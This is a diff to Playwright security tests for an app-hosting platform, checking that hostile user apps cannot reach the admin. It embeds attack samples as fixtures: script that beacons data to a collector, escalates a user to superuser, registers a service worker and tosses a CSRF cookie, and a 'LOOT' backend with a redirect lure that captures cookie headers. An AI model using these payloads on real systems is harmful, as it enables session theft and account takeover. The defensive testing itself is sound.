@@ -15,7 +15,8 @@ from django.contrib.auth import get_user_model
 from playwright.sync_api import expect
 
 from stage.models import ApiKey
-from stage.services.apps import channel_promote, channel_rollback
+from stage.origins.preview_links import preview_token_mint
+from stage.services.apps import channel_rollback
 from tests.factories import UserFactory
 from tests.published_api.apps import deploy, publish
 from tests.stage.render_support import pushed_session, trigger
@@ -45,6 +46,12 @@ const report = () => { new Image().src = COLLECT + "?d=" + encodeURIComponent(JS
       is_staff: "on", is_superuser: "on", date_joined_0: "2026-01-01", date_joined_1: "00:00:00" });
     out.elevated = (await fetch(edit, { method: "POST", body: fields, credentials: "include" })).status;
   } catch (e) { out.fetch = "ERR " + e.name; }
+  try {
+    await navigator.serviceWorker.register("/api/sw.js", { scope: "/" });
+    out.serviceWorker = "registered";
+  } catch (e) { out.serviceWorker = "ERR " + e.name; }
+  try { document.cookie = "csrftoken=tossed; domain=localhost; path=/"; out.toss = "done"; }
+  catch (e) { out.toss = "ERR " + e.name; }
   try {
     const opened = window.open(PLATFORM + "/admin/stage/apikey/add/");
     out.opened = opened ? "window" : "null";
@@ -142,7 +149,9 @@ def test_a_hostile_backend_on_its_own_origin_runs_but_cannot_reach_the_admin(
     assert report.get("csrf") is None and report["fetch"] == "ERR TypeError", report  # CORS: no read
     assert report.get("key") is None and report.get("elevated") is None, report
     assert report.get("adminTitle") in (None, "ERR SecurityError"), report
-    assert before["sessionid"] not in report["cookie"] and before["csrftoken"] not in report["cookie"]
+    # and its documents run in an opaque origin even there: no cookies to read or toss, no service worker
+    assert report["cookie"] == "ERR SecurityError" and report["toss"] == "ERR SecurityError", report
+    assert report["serviceWorker"].startswith("ERR"), report
     assert_nothing_changed(mallory, keys)
     # and its cookies stayed on its own host: the admin's are as they were
     assert platform_cookies(admin_page, live_server) == before
@@ -213,10 +222,39 @@ def test_an_apps_origin_shows_what_its_channels_serve_and_a_version_origin_never
     # when v2 is deployed and promoted
     deploy(app, {"/app/App.tsx": UI % "second", "/app/src/app.ts": API % "api two"})
     assert (shows(origin), answers(origin)) == ("second", "api two")
+    # a version's origin shows its version whatever production does
+    assert (shows(v2_origin), answers(v2_origin)) == ("second", "api two")
     # when production rolls back
     channel_rollback(app=app, actor=mallory)
     assert (shows(origin), answers(origin)) == ("first", "api one")
-    # a version's origin shows its version whatever production does
-    assert (shows(v2_origin), answers(v2_origin)) == ("second", "api two")
-    channel_promote(app=app, actor=mallory)
     assert shows(f"http://{app.sid.replace('_', '-')}--v1.localhost:{port}") == "first"
+    # and v2, out of production, is its owner's again: a link opens it, still showing v2
+    page.goto(f"{v2_origin}/?stage_preview={preview_token_mint(app_sid=app.sid).value}")
+    assert page.frame_locator("#stage-app").locator("#ui").inner_text() == "second"
+
+
+LOOT = """let loot = "nothing yet";
+export default { fetch: (r: Request) => {
+  const path = new URL(r.url).pathname;
+  if (path === "/steal") { loot = r.headers.get("cookie") ?? "no cookie"; return new Response("thanks"); }
+  if (path === "/loot") return new Response(loot);
+  return new Response('<script>location.href = "%(platform)s/stage/%(sid)s/api/steal";</script>',
+    { headers: { "content-type": "text/html" } });
+} };"""
+
+
+def test_a_lure_that_sends_the_admin_to_the_platform_path_collects_no_cookie(
+    admin_page, live_server, backends, mallory
+):
+    # given the attacker's app: a page on its own origin that sends the admin, top-level, to the platform's path
+    # of the same backend, which keeps whatever cookies arrive there
+    app = publish(mallory, "export default { fetch: () => new Response('placeholder') };")
+    deploy(app, LOOT % {"platform": live_server.url, "sid": app.sid})
+    before = platform_cookies(admin_page, live_server)
+    # when the admin opens the lure
+    admin_page.goto(f"{app_origin(app, live_server)}/api/lure")
+    admin_page.wait_for_url(f"{live_server.url}/stage/{app.sid}/api/steal")
+    # then the backend was reached, but holds no cookie of the platform's
+    loot = admin_page.context.request.get(f"{live_server.url}/stage/{app.sid}/api/loot").text()
+    assert loot == "no cookie"
+    assert before["sessionid"] not in loot and before["csrftoken"] not in loot
